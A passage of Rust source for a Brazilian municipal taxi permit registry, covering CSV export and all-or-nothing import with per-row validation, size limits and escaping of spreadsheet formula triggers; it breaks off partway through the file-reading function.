//! The registry as CSV: one row per permit, with its stand, holder, vehicle and up to two
//! auxiliary drivers (layout in `docs/registry-csv.md`, columns in [`COLUMNS`]).
//!
//! Import is all-or-nothing: [`import`] parses every row, collects **every** problem with its
//! line number and column (bad CPF, unknown state, a person whose data differ between rows, a
//! second live permit for one holder — art. 9 —, one auxiliary on two permits — art. 8 §2 —, the
//! art. 14 cap over the whole registry and each stand's places, judged as for any other write
//! by `office::check_cap` and `office::check_stand_places`, …) and returns either the complete new registry or all the errors; the caller
//! commits it as one version. Messages never echo a CPF or a name.
//!
//! What the file replaces and what it keeps: people, vehicles, stands and permits are what the
//! file says. Person and vehicle ids are not in the file: a person keeps the id the registry
//! already gives that CPF (a vehicle: that plate), newcomers get the next `P####` / `V####`, so
//! re-importing an export changes nothing. Penalties, fines and transfers are office history that
//! the layout does not carry: they are kept, and the import fails if one would point at a permit
//! the file no longer has. A stand coordinator is given by CPF: a person of the file or one
//! already in the registry (kept). An art. 1 §3 authorisation is kept for a permit number that
//! stays, if its person stays.
//!
//! The delimiter is `,` or `;` (spreadsheets in Brazil write `;`), taken from the header line;
//! the text must be UTF-8 (a BOM is ignored); dates are `AAAA-MM-DD` or `DD/MM/AAAA`.

use std::collections::{BTreeMap, BTreeSet, HashMap};

use chrono::NaiveDate;
use schemars::JsonSchema;
use serde::{Deserialize, Serialize};
use sync_core::domain::{
    AuxiliaryDriver, CnhNumber, Cpf, DriverLicence, LicenceKind, Permit, PermitState, Person,
    Plate, Registry, Renavam, ServiceKind, Stand, StandSchedule, Taximeter, Vehicle,
    VehicleCategory,
};
use sync_core::rules::office;

use super::{Ctx, EditError};

/// Largest CSV an import reads (bytes). An export row is under 1 KB, so this holds
/// [`MAX_IMPORT_ROWS`] rows with room to spare; checked before parsing so the CLI, the API and
/// the office page share it (the API's body limit is larger and configurable).
pub const MAX_IMPORT_BYTES: usize = 8 * 1024 * 1024;

/// Most permit rows in one file. Americana's art. 14 cap is one taxi per 1,000 inhabitants
/// (≈ 240 permits); 5,000 leaves a 20× margin for a larger city or a generous configuration,
/// and bounds what a bad file costs: each bad row can hold ~50 problems.
pub const MAX_IMPORT_ROWS: usize = 5_000;

/// Most problems reported for one file; past it reading stops and one last line says so. The
/// office fixes a file a few problems at a time, and a file of garbage must not turn into a
/// report a hundred times its size (an 80-byte line of commas gives ~50 problems).
pub const MAX_IMPORT_ERRORS: usize = 1_000;

/// One problem of an import. `line` is the file's line (the header is line 1); `None` for a
/// problem of the file as a whole.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize, JsonSchema)]
pub struct RowError {
    pub line: Option<u64>,
    /// The column, when the problem is one value.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub column: Option<String>,
    /// What is wrong, in Portuguese.
    pub message: String,
}

const PERMIT_COLUMNS: &[&str] = &[
    "permit_number",
    "permit_state",
    "permit_state_from",
    "permit_state_until",
    "permit_service",
    "permit_issued_on",
    "permit_renewal_year",
    "permit_edital_date",
];
const STAND_COLUMNS: &[&str] = &[
    "stand_id",
    "stand_name",
    "stand_address",
    "stand_schedule",
    "stand_service",
    "stand_vacancies",
    "stand_coordinator_cpf",
    "stand_latitude",
    "stand_longitude",
];
const PERSON_FIELDS: &[&str] = &[
    "cpf",
    "name",
    "birth_date",
    "cnh_number",
    "cnh_category",
    "cnh_first_licence_date",
    "cnh_expiry",
    "cnh_kind",
    "cnh_observations",
];
const VEHICLE_COLUMNS: &[&str] = &[
    "vehicle_plate",
    "vehicle_renavam",
    "vehicle_make_model",
    "vehicle_colour",
    "vehicle_year",
    "vehicle_doors",
    "vehicle_capacity",
    "vehicle_municipality",
    "vehicle_uf",
    "vehicle_category",
    "vehicle_owner_cpf",
    "taximeter_certificate",
    "taximeter_verified_on",
    "taximeter_valid_until_year",
    "taximeter_seal_intact",
];
const AUX_EXTRA: &[&str] = &["licence_number", "registered_on"];

/// Every column, in the order [`export`] writes them.
pub static COLUMNS: std::sync::LazyLock<Vec<String>> = std::sync::LazyLock::new(|| {
    let mut cols: Vec<String> = PERMIT_COLUMNS.iter().map(|s| (*s).to_owned()).collect();
    cols.extend(STAND_COLUMNS.iter().map(|s| (*s).to_owned()));
    cols.extend(PERSON_FIELDS.iter().map(|f| format!("holder_{f}")));
    cols.extend(VEHICLE_COLUMNS.iter().map(|s| (*s).to_owned()));
    for aux in ["aux1", "aux2"] {
        cols.extend(PERSON_FIELDS.iter().map(|f| format!("{aux}_{f}")));
        cols.extend(AUX_EXTRA.iter().map(|f| format!("{aux}_{f}")));
    }
    cols
});

// ---------------------------------------------------------------------------------------------
// Formula injection
// ---------------------------------------------------------------------------------------------

/// First characters that make a spreadsheet read a cell as a formula (OWASP "CSV Injection":
/// `=`, `+`, `-`, `@`, TAB, CR). A name `=HYPERLINK(…)` typed into the registry would otherwise
/// run on the office's machine when the export is opened.
pub const FORMULA_TRIGGERS: &[char] = &['=', '+', '-', '@', '\t', '\r'];

/// The escape: a leading apostrophe, which spreadsheets read as "this cell is text" and hide.
const ESCAPE: char = '\'';

/// Columns holding numbers the server writes from typed values (`-22.7394`, `2026`): never
/// escaped, since a number cannot carry a formula and `'-22.7394` would be text a spreadsheet
/// no longer adds or sorts. Every other column is text (names, addresses, ids, dates, CPFs,
/// enumerations) and is escaped when it starts with a trigger; for dates, CPFs and enumerations
/// that never happens, so only free text (names, addresses, makes, colours, observations,
/// certificates) is ever changed. There is no phone column: a `+55 …` in an address is text
/// and is escaped like any other.
pub const NUMBER_COLUMNS: &[&str] = &[
    "permit_renewal_year",
    "stand_vacancies",
    "stand_latitude",
    "stand_longitude",
    "vehicle_year",
    "vehicle_doors",
    "vehicle_capacity",
    "taximeter_valid_until_year",
];

/// A text cell as written: prefixed with [`ESCAPE`] when it starts with a trigger or with the
/// escape itself (so that [`unescape_cell`] undoes exactly this, and `'=x` typed by someone
/// comes back as `'=x`).
fn escape_cell(cell: &str) -> std::borrow::Cow<'_, str> {
    if cell.starts_with(FORMULA_TRIGGERS) || cell.starts_with(ESCAPE) {
        std::borrow::Cow::Owned(format!("{ESCAPE}{cell}"))
    } else {
        std::borrow::Cow::Borrowed(cell)
    }
}

/// A cell as read: one leading [`ESCAPE`] removed (the inverse of [`escape_cell`]; a
/// spreadsheet that kept the apostrophe, or a person who typed one, gets the same treatment).
fn unescape_cell(cell: &str) -> &str {
    cell.strip_prefix(ESCAPE).unwrap_or(cell)
}

// ---------------------------------------------------------------------------------------------
// Export
// ---------------------------------------------------------------------------------------------

fn state_cells(s: &PermitState) -> [String; 3] {
    let d = |d: &NaiveDate| d.to_string();
    match s {
        PermitState::Active => ["active".into(), String::new(), String::new()],
        PermitState::Suspended { from, until } => ["suspended".into(), d(from), d(until)],
        PermitState::Revoked { on } => ["revoked".into(), d(on), String::new()],
        PermitState::InSuccession { since } => ["in_succession".into(), d(since), String::new()],
    }
}

fn service_cell(s: ServiceKind) -> &'static str {
    match s {
        ServiceKind::Common => "common",
        ServiceKind::RadioTaxi => "radio_taxi",
    }
}

fn schedule_cell(s: StandSchedule) -> &'static str {
    match s {
        StandSchedule::Day => "06-20",
        StandSchedule::Extended => "06-24",
    }
}

fn category_cell(c: VehicleCategory) -> &'static str {
    match c {
        VehicleCategory::Aluguel => "aluguel",
        VehicleCategory::Particular => "particular",
        VehicleCategory::Oficial => "oficial",
        VehicleCategory::Outra => "outra",
    }
}

fn opt<T: ToString>(v: Option<T>) -> String {
    v.map(|v| v.to_string()).unwrap_or_default()
}

fn person_cells(p: Option<&Person>) -> Vec<String> {
    match p {
        None => vec![String::new(); PERSON_FIELDS.len()],
        Some(p) => vec![
            p.cpf.as_str().to_owned(),
            p.name.clone(),
            p.birth_date.to_string(),
            p.licence.number.as_str().to_owned(),
            p.licence.category.clone(),
            p.licence.first_licence_date.to_string(),
            p.licence.expiry.to_string(),
            match p.licence.kind {
                LicenceKind::D => "D".into(),
                LicenceKind::P => "P".into(),
            },
            p.licence.observations.join("|"),
        ],
    }
}

/// The registry as CSV (comma-separated, UTF-8, one row per permit, sorted by number).
pub fn export(reg: &Registry) -> Result<Vec<u8>, EditError> {
    let index = reg.index();
    let mut w = csv::Writer::from_writer(Vec::new());
    let fail = |e: csv::Error| EditError::Invalid {
        code: "csv_export",
        message: format!("falha ao escrever o CSV: {e}"),
    };
    w.write_record(COLUMNS.iter()).map_err(fail)?;
    let mut permits: Vec<&Permit> = reg.permits.iter().collect();
    permits.sort_by(|a, b| a.number.cmp(&b.number));
    for p in permits {
        if p.auxiliaries.len() > 2 {
            return Err(EditError::Invalid {
                code: "csv_export",
                message: format!(
                    "O alvará {} tem {} motoristas auxiliares; o layout CSV comporta 2.",
                    p.number,
                    p.auxiliaries.len()
                ),
            });
        }
        let missing = |what: &str, id: &str| EditError::Invalid {
            code: "csv_export",
            message: format!("{what} {id} do alvará {} não consta do cadastro.", p.number),
        };
        let stand = index
            .stand(&p.stand_id)
            .ok_or_else(|| missing("O ponto", &p.stand_id))?;
        let holder = index
            .person(&p.holder_id)
            .ok_or_else(|| missing("O titular", &p.holder_id))?;
        let vehicle = index
            .vehicle(&p.vehicle_id)
            .ok_or_else(|| missing("O veículo", &p.vehicle_id))?;
        let mut row: Vec<String> = Vec::with_capacity(COLUMNS.len());
        let [state, from, until] = state_cells(&p.state);
        row.extend([
            p.number.clone(),
            state,
            from,
            until,
            service_cell(p.service).into(),
            p.issued_on.to_string(),
            p.renewal_year.to_string(),
            opt(p.edital_date),
        ]);
        let coordinator_cpf = stand
            .coordinator_id
            .as_deref()
            .and_then(|c| index.person(c))
            .map(|c| c.cpf.as_str().to_owned())
            .unwrap_or_default();
        row.extend([
            stand.id.clone(),
            stand.name.clone(),
            stand.address.clone(),
            schedule_cell(stand.schedule).into(),
            service_cell(stand.service).into(),
            stand.vacancies.to_string(),
            coordinator_cpf,
            opt(stand.latitude),
            opt(stand.longitude),
        ]);
        row.extend(person_cells(Some(holder)));
        let meter = vehicle.taximeter.as_ref();
        row.extend([
            vehicle.plate.raw().to_owned(),
            vehicle.renavam.as_str().to_owned(),
            vehicle.make_model.clone(),
            vehicle.colour.clone(),
            vehicle.year_of_manufacture.to_string(),
            vehicle.doors.to_string(),
            vehicle.capacity_incl_driver.to_string(),
            vehicle.licensing_municipality.clone(),
            vehicle.licensing_uf.clone(),
            category_cell(vehicle.category).into(),
            vehicle.owner_cpf.as_str().to_owned(),
            meter
                .and_then(|m| m.certificate_number.clone())
                .unwrap_or_default(),
            opt(meter.map(|m| m.verified_on)),
            opt(meter.and_then(|m| m.valid_until_year)),
            opt(meter.map(|m| m.seal_intact)),
        ]);
        for i in 0..2 {
            match p.auxiliaries.get(i) {
                Some(a) => {
                    let person = index
                        .person(&a.person_id)
                        .ok_or_else(|| missing("O motorista auxiliar", &a.person_id))?;
                    row.extend(person_cells(Some(person)));
                    row.extend([a.licence_number.clone(), a.registered_on.to_string()]);
                }
                None => {
                    row.extend(person_cells(None));
                    row.extend([String::new(), String::new()]);
                }
            }
        }
        // The one place cells are written: text escaped against formula injection.
        let cells = COLUMNS.iter().zip(&row).map(|(col, cell)| {
            if NUMBER_COLUMNS.contains(&col.as_str()) {
                std::borrow::Cow::Borrowed(cell.as_str())
            } else {
                escape_cell(cell)
            }
        });
        w.write_record(cells.map(|c| c.into_owned()))
            .map_err(fail)?;
    }
    w.into_inner().map_err(|e| EditError::Invalid {
        code: "csv_export",
        message: format!("falha ao escrever o CSV: {e}"),
    })
}

// ---------------------------------------------------------------------------------------------
// Import: one row
// ---------------------------------------------------------------------------------------------

/// A person as read from a row, before ids are assigned.
#[derive(Debug, Clone, PartialEq)]
struct PersonIn {
    cpf: Cpf,
    name: String,
    birth_date: NaiveDate,
    licence: DriverLicence,
}

#[derive(Debug, Clone)]
struct AuxIn {
    person: PersonIn,
    licence_number: String,
    registered_on: NaiveDate,
}

#[derive(Debug, Clone)]
struct RowIn {
    line: u64,
    number: String,
    state: PermitState,
    service: ServiceKind,
    issued_on: NaiveDate,
    renewal_year: i32,
    edital_date: Option<NaiveDate>,
    stand: Stand,
    coordinator_cpf: Option<Cpf>,
    holder: PersonIn,
    vehicle: Vehicle,
    auxiliaries: Vec<AuxIn>,
}

struct Cells<'a> {
    line: u64,
    record: &'a csv::StringRecord,
    index: &'a HashMap<String, usize>,
    errors: Vec<RowError>,
}

impl Cells<'_> {
    fn get(&self, col: &str) -> &str {
        self.index
            .get(col)
            .and_then(|i| self.record.get(*i))
            // Trimmed, the export's formula escape undone (see `escape_cell`), trimmed again so
            // that `' x` is `x` as `x` is: values never keep surrounding spaces.
            .map(|c| unescape_cell(c.trim()).trim())
            .unwrap_or("")
    }

    fn err(&mut self, col: &str, message: impl Into<String>) {
        self.errors.push(RowError {
            line: Some(self.line),
            column: Some(col.to_owned()),
            message: message.into(),
        });
    }

    fn text(&mut self, col: &str) -> Option<String> {
        let v = self.get(col).to_owned();
        if v.is_empty() {
            self.err(col, "campo obrigatório vazio");
            None
        } else {
            self.bounded(col, v)
        }
    }

    fn opt_text(&mut self, col: &str) -> Option<String> {
        let v = self.get(col).to_owned();
        if v.is_empty() {
            None
        } else {
            self.bounded(col, v)
        }
    }

    /// A text cell under the registry's rule for texts (length, no control characters), the
    /// same as the pages and the API apply (`ops::text_problem`).
    fn bounded(&mut self, col: &str, v: String) -> Option<String> {
        match super::ops::text_problem(&v) {
            Some((_, problem)) => {
                self.err(col, problem);
                None
            }
            None => Some(v),
        }
    }

    fn parse<T>(&mut self, col: &str, what: &str, f: impl Fn(&str) -> Option<T>) -> Option<T> {
        let v = self.get(col).to_owned();
        if v.is_empty() {
            self.err(col, "campo obrigatório vazio");
            return None;
        }
        let out = f(&v);
        if out.is_none() {
            self.err(col, format!("valor inválido: esperado {what}"));
        }
        out
    }

    fn opt_parse<T>(&mut self, col: &str, what: &str, f: impl Fn(&str) -> Option<T>) -> Option<T> {
        if self.get(col).is_empty() {
            None
        } else {
            self.parse(col, what, f)
        }
    }

    fn date(&mut self, col: &str) -> Option<NaiveDate> {
        self.parse(col, "uma data AAAA-MM-DD ou DD/MM/AAAA", parse_date)
    }

    fn opt_date(&mut self, col: &str) -> Option<NaiveDate> {
        self.opt_parse(col, "uma data AAAA-MM-DD ou DD/MM/AAAA", parse_date)
    }

    /// A CPF typed by the office: shape and check digits (D01).
    fn cpf(&mut self, col: &str) -> Option<Cpf> {
        let v = self.get(col).to_owned();
        if v.is_empty() {
            self.err(col, "campo obrigatório vazio");
            return None;
        }
        match Cpf::parse_strict(&v) {
            Ok(c) => Some(c),
            Err(e) => {
                self.err(col, e.to_string());
                None
            }
        }
    }

    fn person(&mut self, prefix: &str) -> Option<PersonIn> {
        let c = |f: &str| format!("{prefix}_{f}");
        let cpf = self.cpf(&c("cpf"));
        let name = self.text(&c("name"));
        let birth_date = self.date(&c("birth_date"));
        let number = {
            let col = c("cnh_number");
            let v = self.get(&col).to_owned();
            if v.is_empty() {
                self.err(&col, "campo obrigatório vazio");
                None
            } else {
                // D02 check digits are only a warning: the shape is enough here.
                match CnhNumber::parse(&v) {
                    Ok(n) => Some(n),
                    Err(e) => {
                        self.err(&col, e.to_string());
                        None
                    }
                }
            }
        };
        let category = self.text(&c("cnh_category"));
        let first = self.date(&c("cnh_first_licence_date"));
        let expiry = self.date(&c("cnh_expiry"));
        let kind = self.parse(&c("cnh_kind"), "D ou P", |s| {
            match s.to_ascii_uppercase().as_str() {
                "D" => Some(LicenceKind::D),
                "P" => Some(LicenceKind::P),
                _ => None,
            }
        });
        let observations: Vec<String> = self
            .get(&c("cnh_observations"))
            .split('|')
            .map(str::trim)
            .filter(|s| !s.is_empty())
            .map(str::to_owned)
            .collect();
        if observations.len() > crate::limits::MAX_LICENCE_OBSERVATIONS {
            self.err(
                &c("cnh_observations"),
                format!(
                    "no máximo {} observações por CNH.",
                    crate::limits::MAX_LICENCE_OBSERVATIONS
                ),
            );
        }
        for o in &observations {
            if let Some((_, problem)) = super::ops::text_problem(o) {
                self.err(&c("cnh_observations"), problem);
            }
        }
        Some(PersonIn {
            cpf: cpf?,
            name: name?,
            birth_date: birth_date?,
            licence: DriverLicence {
                number: number?,
                category: category?.to_uppercase(),
                first_licence_date: first?,
                expiry: expiry?,
                kind: kind?,
                observations,
            },
        })
    }

    fn any_of(&self, prefix: &str) -> bool {
        PERSON_FIELDS
            .iter()
            .chain(AUX_EXTRA)
            .any(|f| !self.get(&format!("{prefix}_{f}")).is_empty())
    }

    fn aux(&mut self, prefix: &str) -> Option<Option<AuxIn>> {
        if !self.any_of(prefix) {
            return Some(None);
        }
        let person = self.person(prefix);
        let licence_number = self.text(&format!("{prefix}_licence_number"));
        let registered_on = self.date(&format!("{prefix}_registered_on"));
        Some(Some(AuxIn {
            person: person?,
            licence_number: licence_number?,
            registered_on: registered_on?,
        }))
    }

    fn row(&mut self) -> Option<RowIn> {
        let number = self.text("permit_number");
        let state = self.state();
        let service = self.parse("permit_service", "common ou radio_taxi", parse_service);
        let issued_on = self.date("permit_issued_on");
        let renewal_year = self.parse("permit_renewal_year", "um ano", |s| {
            s.parse::<i32>().ok().filter(|y| (1900..=2200).contains(y))
        });
        let edital_date = self.opt_date("permit_edital_date");

        let stand_id = self.text("stand_id");
        let stand_name = self.text("stand_name");
        let stand_address = self.opt_text("stand_address").unwrap_or_default();
        let schedule = self.parse("stand_schedule", "06-20 ou 06-24", |s| match s {
            "06-20" => Some(StandSchedule::Day),
            "06-24" => Some(StandSchedule::Extended),
            _ => None,
        });
        let stand_service = self.parse("stand_service", "common ou radio_taxi", parse_service);
        let vacancies = self.parse("stand_vacancies", "um número de vagas", |s| {
            s.parse::<u32>().ok()
        });
        let coordinator_cpf = if self.get("stand_coordinator_cpf").is_empty() {
            None
        } else {
            self.cpf("stand_coordinator_cpf")
        };
        let latitude = self.opt_parse("stand_latitude", "uma latitude", parse_coordinate);
        let longitude = self.opt_parse("stand_longitude", "uma longitude", parse_coordinate);

        let holder = self.person("holder");
        let vehicle = self.vehicle();
        let aux1 = self.aux("aux1");
        let aux2 = self.aux("aux2");

        let stand = Stand {
            id: stand_id?,
            name: stand_name?,
            address: stand_address,
            schedule: schedule?,
            service: stand_service?,
            vacancies: vacancies?,
            coordinator_id: None,
            latitude,
            longitude,
        };
        Some(RowIn {
            line: self.line,
            number: number?,
            state: state?,
            service: service?,
            issued_on: issued_on?,
            renewal_year: renewal_year?,
            edital_date,
            stand,
            coordinator_cpf,
            holder: holder?,
            vehicle: vehicle?,
            auxiliaries: [aux1?, aux2?].into_iter().flatten().collect(),
        })
    }

    fn state(&mut self) -> Option<PermitState> {
        let kind = self.parse(
            "permit_state",
            "active, suspended, revoked ou in_succession",
            |s| match s.to_lowercase().as_str() {
                "active" | "ativo" => Some(0),
                "suspended" | "suspenso" => Some(1),
                "revoked" | "cassado" => Some(2),
                "in_succession" | "em_sucessao" | "em sucessão" => Some(3),
                _ => None,
            },
        )?;
        match kind {
            0 => Some(PermitState::Active),
            1 => {
                let from = self.date("permit_state_from");
                let until = self.date("permit_state_until");
                let (from, until) = (from?, until?);
                if until < from {
                    self.err("permit_state_until", "fim da suspensão anterior ao início");
                    return None;
                }
                Some(PermitState::Suspended { from, until })
            }
            2 => Some(PermitState::Revoked {
                on: self.date("permit_state_from")?,
            }),
            _ => Some(PermitState::InSuccession {
                since: self.date("permit_state_from")?,
            }),
        }
    }

    fn vehicle(&mut self) -> Option<Vehicle> {
        let plate = {
            let v = self.get("vehicle_plate").to_owned();
            if v.is_empty() {
                self.err("vehicle_plate", "campo obrigatório vazio");
                None
            } else {
                match Plate::parse(&v) {
                    Ok(p) => Some(p),
                    Err(e) => {
                        self.err("vehicle_plate", e.to_string());
                        None
                    }
                }
            }
        };
        let renavam = {
            let v = self.get("vehicle_renavam").to_owned();
            match Renavam::parse(&v) {
                Ok(r) => Some(r),
                Err(e) => {
                    self.err("vehicle_renavam", e.to_string());
                    None
                }
            }
        };
        let make_model = self.text("vehicle_make_model");
        let colour = self.text("vehicle_colour");
        let year = self.parse("vehicle_year", "um ano", |s| {
            s.parse::<i32>().ok().filter(|y| (1950..=2200).contains(y))
        });
        let doors = self.parse("vehicle_doors", "um número de portas", |s| {
            s.parse::<u8>().ok()
        });
        let capacity = self.parse("vehicle_capacity", "a lotação", |s| s.parse::<u8>().ok());
        let municipality = self.text("vehicle_municipality");
        let uf = self.parse("vehicle_uf", "a sigla do estado (2 letras)", |s| {
            (s.len() == 2 && s.chars().all(|c| c.is_ascii_alphabetic()))
                .then(|| s.to_ascii_uppercase())
        });
        let category = self.parse(
            "vehicle_category",
            "aluguel, particular, oficial ou outra",
            |s| match s.to_lowercase().as_str() {
                "aluguel" => Some(VehicleCategory::Aluguel),
                "particular" => Some(VehicleCategory::Particular),
                "oficial" => Some(VehicleCategory::Oficial),
                "outra" => Some(VehicleCategory::Outra),
                _ => None,
            },
        );
        let owner = self.cpf("vehicle_owner_cpf");
        let certificate = self.opt_text("taximeter_certificate");
        let verified_on = self.opt_date("taximeter_verified_on");
        let valid_until = self.opt_parse("taximeter_valid_until_year", "um ano", |s| {
            s.parse::<i32>().ok()
        });
        let seal = self.opt_parse("taximeter_seal_intact", "sim ou não", parse_bool);
        let taximeter = match verified_on {
            Some(verified_on) => Some(Taximeter {
                certificate_number: certificate,
                verified_on,
                valid_until_year: valid_until,
                seal_intact: seal.unwrap_or(true),
            }),
            None => {
                if certificate.is_some() || valid_until.is_some() || seal.is_some() {
                    self.err(
                        "taximeter_verified_on",
                        "dados do taxímetro sem a data da aferição",
                    );
                    return None;
                }
                None
            }
        };
        Some(Vehicle {
            id: String::new(),
            plate: plate?,
            renavam: renavam?,
            make_model: make_model?,
            colour: colour?,
            year_of_manufacture: year?,
            doors: doors?,
            capacity_incl_driver: capacity?,
            licensing_municipality: municipality?,
            licensing_uf: uf?,
            category: category?,
            owner_cpf: owner?,
            taximeter,
        })
    }
}

fn parse_date(s: &str) -> Option<NaiveDate> {
    NaiveDate::parse_from_str(s, "%Y-%m-%d")
        .or_else(|_| NaiveDate::parse_from_str(s, "%d/%m/%Y"))
        .ok()
}

fn parse_service(s: &str) -> Option<ServiceKind> {
    match s.to_lowercase().replace('-', "_").as_str() {
        "common" | "comum" => Some(ServiceKind::Common),
        "radio_taxi" | "radiotaxi" | "rádio_táxi" => Some(ServiceKind::RadioTaxi),
        _ => None,
    }
}

fn parse_bool(s: &str) -> Option<bool> {
    match s.to_lowercase().as_str() {
        "true" | "sim" | "s" | "1" | "yes" => Some(true),
        "false" | "não" | "nao" | "n" | "0" | "no" => Some(false),
        _ => None,
    }
}

fn parse_coordinate(s: &str) -> Option<f64> {
    s.replace(',', ".")
        .parse::<f64>()
        .ok()
        .filter(|v| v.is_finite() && v.abs() <= 180.0)
}

// ---------------------------------------------------------------------------------------------
// Import: the file
// ---------------------------------------------------------------------------------------------

fn whole(message: impl Into<String>) -> RowError {
    RowError {
        line: None,
        column: None,
        message: message.into(),
    }
}

fn at(line: u64, column: Option<&str>, message: impl Into<String>) -> RowError {
    RowError {
        line: Some(line),
        column: column.map(str::to_owned),
        message: message.into(),
    }
}

/// How much one import may read: the office's upload ([`UPLOAD_LIMITS`]) or the command
/// line's file ([`CLI_LIMITS`]).
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct ImportLimits {
    /// Most bytes read from the file; reading stops past it.
    pub max_bytes: u64,
    /// Most permit rows.
    pub max_rows: usize,
}

/// An upload through the API or the office's page: [`MAX_IMPORT_BYTES`], [`MAX_IMPORT_ROWS`].
pub const UPLOAD_LIMITS: ImportLimits = ImportLimits {
    max_bytes: MAX_IMPORT_BYTES as u64,
    max_rows: MAX_IMPORT_ROWS,
};

/// Most permit rows `taxi-fiscal import` reads from a file on the server's own disk. The city
/// IT that runs it is trusted with the machine, so the bound is not against an attacker but
/// against a wrong file: 250,000 permits is a city of 250 million at art. 14's one taxi per
/// 1,000 inhabitants, and is what the import is measured at (the store bench loads 200,000).
/// Memory grows with the rows kept, never with the file's text (it is read as a stream).
pub const MAX_CLI_IMPORT_ROWS: usize = 250_000;

/// Most bytes `taxi-fiscal import` reads: [`MAX_CLI_IMPORT_ROWS`] export rows of up to
/// 1.5 KB each (an export row with two auxiliaries is about 900 bytes).
pub const MAX_CLI_IMPORT_BYTES: u64 = 384 * 1024 * 1024;

/// The command line's import: [`MAX_CLI_IMPORT_BYTES`], [`MAX_CLI_IMPORT_ROWS`].
pub const CLI_LIMITS: ImportLimits = ImportLimits {
    max_bytes: MAX_CLI_IMPORT_BYTES,
    max_rows: MAX_CLI_IMPORT_ROWS,
};

// What the server's own disk may hold is never less than what an upload may.
const _: () = assert!(
    CLI_LIMITS.max_rows >= UPLOAD_LIMITS.max_rows
        && CLI_LIMITS.max_bytes >= UPLOAD_LIMITS.max_bytes
);

/// Longest header line read to choose the delimiter (bytes). The header of every column is
/// about 1 KB; a first line longer than this is not a header of this layout.
pub const MAX_HEADER_BYTES: u64 = 16 * 1024;

/// The rows of a file, read but not yet judged against each other or the registry: what
/// [`apply`] needs. Held in memory: an import is all or nothing, and its checks (repeated
/// numbers, plates, people, art. 9, art. 8 § 2) compare every row with every other.
#[derive(Debug)]
pub struct ReadRows {
    rows: Vec<RowIn>,
    errors: Vec<RowError>,
}

impl ReadRows {
    /// How many permit rows were read well.
    pub fn len(&self) -> usize {
        self.rows.len()
    }

    /// Whether no row was read well.
    pub fn is_empty(&self) -> bool {
        self.rows.is_empty()
    }
}

fn not_utf8(line: u64) -> RowError {
    at(
        line,
        None,
        "o texto não está em UTF-8 (salve a planilha como \"CSV UTF-8\")",
    )
}

fn too_big(limits: &ImportLimits) -> RowError {
    whole(format!(
        "o arquivo passa de {} bytes, o limite de uma importação ({} alvarás no máximo)",
        limits.max_bytes, limits.max_rows
    ))
}

/// Reads the rows from `input` as a stream (the text is never held whole): the good ones and
/// the problems of the bad ones. Header problems, a file over `limits` and a read failure stop
/// here (`Err`), since no report could be complete.
pub fn read(input: impl std::io::Read, limits: &ImportLimits) -> Result<ReadRows, EditError> {
    read_rows(input, limits).map_err(report)
}

fn read_rows(input: impl std::io::Read, limits: &ImportLimits) -> Result<ReadRows, Vec<RowError>> {
    use std::io::{BufRead, Read};
    let mut input = std::io::BufReader::new(sync_core::limits::BoundedReader::new(
        input,
        limits.max_bytes,
    ));
    // The header line chooses the delimiter; it is then handed back to the CSV reader.
    let mut header = Vec::new();
    let read_header = input
        .by_ref()
        .take(MAX_HEADER_BYTES)
        .read_until(b'\n', &mut header);
    if let Err(e) = read_header {
        return Err(vec![if input.get_ref().exceeded() {
            too_big(limits)
        } else {
            whole(format!("não foi possível ler o arquivo: {e}"))
        }]);
    }
    if header.len() as u64 >= MAX_HEADER_BYTES && !header.ends_with(b"\n") {
        return Err(vec![at(
            1,
            None,
            format!("a primeira linha passa de {MAX_HEADER_BYTES} bytes: não é um cabeçalho"),
        )]);
    }
    // A BOM is not part of the header.
    if header.starts_with(b"\xEF\xBB\xBF") {
        header.drain(..3);
    }
    let header_text = std::str::from_utf8(&header).map_err(|_| vec![not_utf8(1)])?;
    let delimiter = if header_text.matches(';').count() > header_text.matches(',').count() {
        b';'
    } else {
        b','
    };
    let mut reader = csv::ReaderBuilder::new()
        .delimiter(delimiter)
        .has_headers(true)
        .flexible(true)
        .from_reader(std::io::Cursor::new(header).chain(input));
    let headers = match reader.headers() {
        Ok(h) => h.clone(),
        Err(e) => return Err(vec![at(1, None, format!("cabeçalho ilegível: {e}"))]),
    };
    let mut index: HashMap<String, usize> = HashMap::new();
    let mut errors = Vec::new();
    for (i, name) in headers.iter().enumerate() {
        if errors.len() > MAX_IMPORT_ERRORS {
            break;
        }
        let name = name.trim().to_lowercase();
        if !COLUMNS.contains(&name) {
            errors.push(at(1, Some(&name), "coluna desconhecida"));
        } else if index.insert(name.clone(), i).is_some() {
            errors.push(at(1, Some(&name), "coluna repetida"));
        }
    }
    let missing: Vec<&str> = COLUMNS
        .iter()
        .filter(|c| !index.contains_key(c.as_str()))
        .map(String::as_str)
        .collect();
    if !missing.is_empty() {
        errors.push(at(
            1,
            None,
            format!("colunas ausentes: {}", missing.join(", ")),
        ));
    }
    if !errors.is_empty() {
        return Err(errors);
    }
    let mut rows = Vec::new();
    let mut read = 0usize;
    let mut record = csv::StringRecord::new();
    loop {
        if errors.len() >= MAX_IMPORT_ERRORS {
            // The report says how many were left out; reading on would only cost memory.
            break;
        }
        match reader.read_record(&mut record) {
            Ok(false) => break,
            Ok(true) => {}
            Err(e) => {
                if reader.get_ref().get_ref().1.get_ref().exceeded() {
                    return Err(vec![too_big(limits)]);
                }
                let line = e.position().map_or(0, |p| p.line());
                match e.kind() {
                    csv::ErrorKind::Io(io) => {
                        return Err(vec![whole(format!("não foi possível ler o arquivo: {io}"))]);
                    }
                    // The first row that is not UTF-8 stops the import: a file in another
                    // encoding would only give the same problem on every line.
                    csv::ErrorKind::Utf8 { .. } => {
                        return Err(vec![not_utf8(line)]);
                    }
                    _ => {}
                }
                errors.push(at(line, None, "linha ilegível (aspas ou delimitadores)"));
                continue;
            }
        }
        let line = record.position().map_or(0, |p| p.line());
        if record.iter().all(|f| f.trim().is_empty()) {
            continue;
        }
        read += 1;
        if read > limits.max_rows {
            errors.push(whole(format!(
                "o arquivo tem mais de {} alvarás, o máximo de uma importação",
                limits.max_rows
            )));
            break;
        }
        if record.len() != headers.len() {
            errors.push(at(
                line,
                None,
                format!(
                    "a linha tem {} campos; o cabeçalho tem {}",
                    record.len(),
                    headers.len()
                ),
            ));
            continue;
        }
        let mut cells = Cells {
            line,
            record: &record,
            index: &index,
            errors: Vec::new(),
        };
        let row = cells.row();
        errors.append(&mut cells.errors);
        if let Some(row) = row {
            rows.push(row);
        }
    }
